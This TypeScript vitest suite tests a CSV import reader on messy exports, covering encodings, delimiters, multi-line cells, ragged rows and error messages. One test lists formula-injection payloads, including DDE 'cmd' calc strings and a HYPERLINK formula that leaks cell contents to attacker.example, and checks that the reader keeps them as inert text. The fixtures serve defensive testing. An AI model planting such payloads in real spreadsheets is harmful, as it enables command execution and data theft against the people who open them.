import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../../shared/api/errors';
import { openCsvTable } from '../../../electron/core/imports/readers/csv-reader';
import type { Table, TableRow } from '../../../electron/core/imports/preset-types';
import { tempFolder } from '../../support/temp-folder';

const fixture = (path: string) => join('test/fixtures', path);

async function readAll(table: Table): Promise<TableRow[]> {
  const rows: TableRow[] = [];
  for await (const row of table.rows) rows.push(row);
  return rows;
}

function write(name: string, content: Buffer | string): string {
  const path = join(tempFolder(), name);
  writeFileSync(path, content);
  return path;
}

/** 1-based line numbers of the physical lines that contain `text`, read without the reader. */
function linesContaining(path: string, text: string, encoding: BufferEncoding = 'utf8'): number[] {
  return readFileSync(path, encoding)
    .split('\n')
    .flatMap((line, index) => (line.includes(text) ? [index + 1] : []));
}

async function readError(path: string, options = {}): Promise<AppError> {
  const error = await openCsvTable(path, options)
    .then(readAll)
    .then(
      () => null,
      (caught: unknown) => caught,
    );
  expect(error).toBeInstanceOf(AppError);
  return error as AppError;
}

describe('openCsvTable on the messy exports', () => {
  it('strips the UTF-8 BOM and numbers rows by the line they start on', async () => {
    const path = fixture('messy/utf8_bom_cmdb_export.csv');
    const table = await openCsvTable(path);
    expect(table.header[0]).toBe('Record ID');
    expect(table.header).toHaveLength(12);
    expect(table.details).toMatchObject({ format: 'csv', encoding: 'utf-8', delimiter: ',' });
    const rows = await readAll(table);
    expect(rows).toHaveLength(40);
    const multiLine = rows.find((row) => row.cells.some((cell) => cell.includes('\n')))!;
    expect(multiLine.cells[10]).toBe('sharepoint search service account\nSee runbook RB-114');
    expect([multiLine.rowNumber]).toEqual(linesContaining(path, multiLine.cells[0]!));
    const after = rows[rows.indexOf(multiLine) + 1]!;
    expect([after.rowNumber]).toEqual(linesContaining(path, after.cells[0]!));
    expect(after.rowNumber).toBe(multiLine.rowNumber + 2);
  });

  it('reads the UTF-16LE TAB export to the same 40 records as the UTF-8 export', async () => {
    const utf16 = await openCsvTable(fixture('messy/excel_unicode_text_export.txt'));
    expect(utf16.details).toMatchObject({ encoding: 'utf-16le', delimiter: '\t' });
    const utf8 = await openCsvTable(fixture('messy/utf8_bom_cmdb_export.csv'));
    expect(utf16.header).toEqual(utf8.header);
    const [a, b] = [await readAll(utf16), await readAll(utf8)];
    expect(a).toHaveLength(40);
    expect(a).toEqual(b);
    expect(a.some((row) => row.cells.includes('José Núñez'))).toBe(true);
  });

  it('detects ; and decodes Windows-1252 (ü, ß and € at 0x80)', async () => {
    const table = await openCsvTable(fixture('messy/european_semicolon_cp1252.csv'));
    expect(table.details).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
    expect(table.header).toContain('Monthly Cost (€)');
    const rows = await readAll(table);
    expect(rows).toHaveLength(45);
    const names = rows.map((row) => row.cells[2]);
    expect(names).toContain('Jürgen Müller');
    expect(names).toContain('Grete Größmann');
    expect(rows[0]!.cells).toEqual([
      'nwl-data-lake-loader',
      'Entra ID',
      'Jürgen Müller',
      'nie',
      '',
      '2,2',
      '668,51',
      'N',
    ]);
  });

  it('keeps formula-injection payloads verbatim as text', async () => {
    const rows = await readAll(await openCsvTable(fixture('messy/csv_injection_payloads.csv')));
    const all = rows.flatMap((row) => row.cells);
    expect(all).toContain(`+cmd|' /C calc'!A0`);
    expect(all).toContain('=HYPERLINK("https://attacker.example/?leak="&A2&B2,"Open ticket")');
    expect(all).toContain('\t=1+1 (leading TAB before =)');
    expect(all).toContain('\r=2+5 (leading CR)');
    expect(all).toContain('-2+3');
    expect(all).toContain("@SUM(1+1)*cmd|' /C calc'!A0");
    expect(all).toContain("'=already-escaped");
    expect(all).toContain('+44 20 7946 0000');
  });

  it('reports ragged rows with their cells and line numbers, and keeps duplicates', async () => {
    const path = fixture('messy/duplicates_and_ragged.csv');
    const table = await openCsvTable(path);
    const rows = await readAll(table);
    expect(rows).toHaveLength(23);
    const ragged = rows.filter((row) => row.cells.length !== table.header.length);
    expect(ragged.map((row) => row.cells.length)).toEqual([3, 8]);
    expect(ragged.map((row) => row.rowNumber)).toEqual([
      ...linesContaining(path, 'SA1586'),
      ...linesContaining(path, 'SA1597'),
    ]);
    expect(rows.filter((row) => row.cells[0] === 'SA1534')).toHaveLength(2);
  });

  it('reads a header-only file as a header and no rows', async () => {
    const table = await openCsvTable(fixture('messy/header_only.csv'));
    expect(table.header).toHaveLength(22);
    expect(await readAll(table)).toEqual([]);
  });

  it("skips PowerShell's #TYPE line", async () => {
    const table = await openCsvTable(fixture('active-directory/gmsa_export.csv'));
    expect(table.headerRowNumber).toBe(2);
    expect(table.header).toHaveLength(91);
    expect(table.header[0]).toBe('AccountExpirationDate');
    const rows = await readAll(table);
    expect(rows).toHaveLength(34);
    expect(rows[0]!.rowNumber).toBe(3);
  });
});

describe('openCsvTable on crafted files', () => {
  it('finds the header below title rows and drops trailing empty columns', async () => {
    const path = write(
      'titled.csv',
      'Northwind service accounts,,,,\r\nExported 2026-10-30 by admin,,,,\r\n,,,,\r\nName,Owner,Type,,\r\nsvc_a,ana@x.example,Service Account,,\r\n',
    );
    const table = await openCsvTable(path);
    expect(table.header).toEqual(['Name', 'Owner', 'Type']);
    expect(table.headerRowNumber).toBe(4);
    expect(await readAll(table)).toEqual([
      { rowNumber: 5, cells: ['svc_a', 'ana@x.example', 'Service Account'] },
    ]);
  });

  it("honours Excel's sep= line and CR-only line breaks", async () => {
    const sep = await openCsvTable(write('sep.csv', 'sep=|\nName|Owner\na|b\n'));
    expect(sep.header).toEqual(['Name', 'Owner']);
    expect(sep.details.delimiter).toBe('|');
    expect(await readAll(sep)).toEqual([{ rowNumber: 3, cells: ['a', 'b'] }]);
    const mac = await openCsvTable(write('mac.csv', 'Name,Owner\r"multi\rline",x\rc,d\r'));
    expect(await readAll(mac)).toEqual([
      { rowNumber: 2, cells: ['multi\rline', 'x'] },
      { rowNumber: 4, cells: ['c', 'd'] },
    ]);
  });

  it('keeps line numbers right across read chunks with multi-line cells', async () => {
    const lines = ['id,note,owner'];
    const expected: Array<{ id: string; line: number }> = [];
    let physicalLines = 1;
    for (let index = 0; index < 40_000; index += 1) {
      const id = `row-${index}`;
      expected.push({ id, line: physicalLines + 1 });
      const multiLine = index % 7 === 0;
      if (multiLine) lines.push(`${id},"first line\nsecond, line\nthird ""line""",owner${index}`);
      else lines.push(`${id},plain note ${'x'.repeat(index % 50)},owner${index}`);
      physicalLines += multiLine ? 3 : 1;
    }
    const path = write('chunks.csv', lines.join('\n') + '\n');
    const rows = await readAll(await openCsvTable(path));
    expect(rows).toHaveLength(expected.length);
    expect(rows.map((row) => ({ id: row.cells[0], line: row.rowNumber }))).toEqual(expected);
    expect(rows[7]!.cells[1]).toBe('first line\nsecond, line\nthird "line"');
  });

  it('decides between UTF-8 and Windows-1252 at the first non-ASCII byte past the sample', async () => {
    // Past the first 1 MiB read, so the table opens before the deciding byte is seen.
    const ascii = 'name,owner\n' + 'svc,ana\n'.repeat(200_000);
    const cp1252 = await openCsvTable(
      write(
        'late.csv',
        Buffer.concat([
          Buffer.from(ascii),
          Buffer.from([0x4d, 0xfc, 0x6c, 0x6c, 0x65, 0x72, 0x2c, 0x80, 0x0a]),
        ]),
      ),
    );
    expect(cp1252.details.encoding).toBe('us-ascii');
    const cpRows = await readAll(cp1252);
    expect(cpRows.at(-1)!.cells).toEqual(['Müller', '€']);
    expect(cp1252.details.encoding).toBe('windows-1252');
    const utf8 = await openCsvTable(write('late8.csv', ascii + 'Müller,€\n'));
    const utf8Rows = await readAll(utf8);
    expect(utf8Rows.at(-1)!.cells).toEqual(['Müller', '€']);
    expect(utf8.details.encoding).toBe('utf-8');
  });

  it('refuses a UTF-8 file that switches encoding half-way', async () => {
    const text = Buffer.from('name,owner\nJosé,ana\n' + 'svc,ana\n'.repeat(20_000));
    const error = await readError(write('mixed.csv', Buffer.concat([text, Buffer.from([0x4d, 0xfc, 0x0a])])));
    expect(error.message).toContain('mixes encodings');
  });

  it('fails fast, with the line, on a quote that is never closed', async () => {
    const body = 'a,b,c\n1,2,3\n4,"never closed,6\n' + `${'x'.repeat(1023)}\n`.repeat(1024);
    const path = write('unterminated.csv', body);
    const error = await readError(path, { maxRecordChars: 64 * 1024 });
    expect(error.code).toBe('INVALID_FILE');
    expect(error.message).toMatch(
      /unterminated\.csv, line 3: the record starting there runs on for more than 65,536 characters/,
    );
    const short = await readError(write('short.csv', 'a,b\n1,"abc\n2,3\n'));
    expect(short.message).toContain('short.csv, line 2: a quoted field is never closed');
  });

  it('says a file of blank lines has no header', async () => {
    const error = await readError(write('blank.csv', '\n\n \n,,\n'));
    expect(error.message).toContain('holds only empty lines');
  });
});
